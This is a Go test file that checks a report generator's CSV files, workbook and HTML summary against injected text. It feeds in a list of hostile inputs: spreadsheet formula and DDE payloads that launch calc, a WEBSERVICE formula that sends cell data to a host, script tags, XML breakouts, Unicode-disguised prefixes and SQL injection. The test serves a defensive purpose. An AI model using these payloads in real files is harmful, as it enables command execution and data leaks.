package report_test

import (
	"archive/zip"
	"io"
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"testing"
	"time"
	"unicode"
	"unicode/utf8"

	"losttrn/internal/local/exportgen"
	"losttrn/internal/report"
	"losttrn/internal/report/dataset"
)

// hostile are texts that a person can type, which become a formula, a link, a tag or another file in something that takes
// them for more than texts.
var hostile = []string{`=HYPERLINK("http://example.com","x")`, `+1+1`, `-1+1`, `@SUM(1)`, "\t=1+1", "\r=1+1", `=cmd|' /C calc'!A0`, `'=1+1`,
	`<script>alert(1)</script>`, `</t></is></c><c r="A1"><f>1+1</f></c>`, `]]><f>1</f>`, `https://example.com/x`, `mailto:x@example.com`,
	`_x003D_1+1`, `_x005F_x003D_1`, "＝1+1", "＠SUM(1)", "﹦1+1", "\u00a0=1+1", "\u200b=1+1", "\ufeff+1", "\v=1", "\f@x", "a;=1+1", "=DDE(\"cmd\";\"/C calc\";\"x\")",
	`=WEBSERVICE("https://example.com/"&A1)`, `-2+3+cmd|' /C calc'!A0`, `http:\\\\example.com\\x`, `\\\\example.com\\share`, `www.example.com`, `javascript:alert(1)`,
	`[x](https://example.com)`, `<a href="https://example.com">x</a>`, `&lt;script&gt;`, `{{template "x"}}`, "\x00\x01\x1b[31m", "\uFFFE", `"; DROP TABLE lookups; --`, `0012345`, `1e5`, `2026-11-22`, strings.Repeat("=x", 40_000)}

// hostileTables are a day on which every text that a person can give is hostile.
func hostileTables() tables {
	contents := tables{}
	for i, text := range hostile {
		id, when := "id-"+string(rune('a'+i))+text[:min(len(text), 20)], ago(1, "09:30:00.000").Add(time.Duration(i)*time.Second)
		contents[dataset.Lookups] = append(contents[dataset.Lookups], found(id, text, text, when, exportgen.Item{"name": text,
			"unlockOutcome": "refused", "unlockReasons": []string{strings.Join(strings.Fields(text), "")}, "trnEmailedAt": when, "trnDelivery": text + "-failure"}))
		contents[dataset.Emails] = append(contents[dataset.Emails], exportgen.Item{"email": text, "asTyped": text,
			"trns": exportgen.Item{text: when, text + "2": when}, "contacted": []exportgen.Item{{"at": when, "by": text, "note": text}},
			"lifted": []exportgen.Item{{"at": when, "by": text, "note": text}}})
		details := exportgen.Item{}
		for _, field := range []string{"email", "firstName", "middleName", "lastName", "previousFirstName", "previousLastName", "dateOfBirth",
			"nationalInsuranceNumber", "trn", "trainingProvider"} {
			details[field] = text
		}
		contents[dataset.HelpdeskRequests] = append(contents[dataset.HelpdeskRequests], exportgen.Item{"lookupId": id, "requestedAt": when,
			"why": text, "candidateTrns": []string{text}, "note": text, "details": details})
		contents[dataset.Lookups] = append(contents[dataset.Lookups], exportgen.Item{"lookupId": text, "receivedAt": "none", "outcome": text})
	}
	return contents
}

// invisible tells whether a rune shows nothing, so that a spreadsheet may look past it.
func invisible(r rune) bool {
	return unicode.IsSpace(r) || unicode.IsControl(r) || unicode.Is(unicode.Cf, r)
}

// TestNoTextBecomesMoreThanText in the workbook, the CSV files and the page.
func TestNoTextBecomesMoreThanText(t *testing.T) {
	dir, _, err := makeReport(t, hostileTables(), report.Options{})
	if err != nil {
		t.Fatal(err)
	}
	for _, name := range []string{"repeat-emails.csv", "unlocks.csv", "helpdesk-requests.csv", "undelivered.csv", "unreadable.csv"} {
		all := rows(t, dir, name)
		if len(all) == 0 {
			t.Errorf("%s is empty", name)
		}
		for _, row := range all {
			for _, cell := range row {
				first, _ := utf8.DecodeRuneInString(strings.TrimLeftFunc(cell, invisible))
				if cell != "" && (strings.ContainsRune("\t\r\n", rune(cell[0])) || strings.ContainsRune("=+-@＝＋－＠﹦﹢﹣﹫−", first)) {
					t.Errorf("%s: a cell begins %.20q", name, cell)
				}
			}
		}
	}
	for name, sheet := range unzip(t, filepath.Join(dir, report.WorkbookFile)) {
		if strings.Contains(sheet, "<f>") || strings.Contains(sheet, "<hyperlink") || strings.Contains(sheet, "<script") {
			t.Errorf("%s holds a formula, a link or a tag", name)
		}
		if strings.HasPrefix(name, "xl/worksheets/_rels") || strings.Contains(name, "externalLink") {
			t.Errorf("the workbook links to something: %s", name)
		}
	}
	page, err := os.ReadFile(filepath.Join(dir, report.SummaryFile))
	if err != nil {
		t.Fatal(err)
	}
	if found := regexp.MustCompile(`(?i)<script|<f>|<a [^>]*href="[^#]|\son[a-z]+=`).Find(page); found != nil {
		t.Errorf("the page holds %s", found)
	}
}

func unzip(t *testing.T, name string) map[string]string {
	t.Helper()
	archive, err := zip.OpenReader(name)
	if err != nil {
		t.Fatal(err)
	}
	defer archive.Close()
	files := map[string]string{}
	for _, entry := range archive.File {
		file, err := entry.Open()
		if err != nil {
			t.Fatal(err)
		}
		text, err := io.ReadAll(file)
		if err != nil {
			t.Fatal(err)
		}
		files[entry.Name] = string(text)
	}
	return files
}
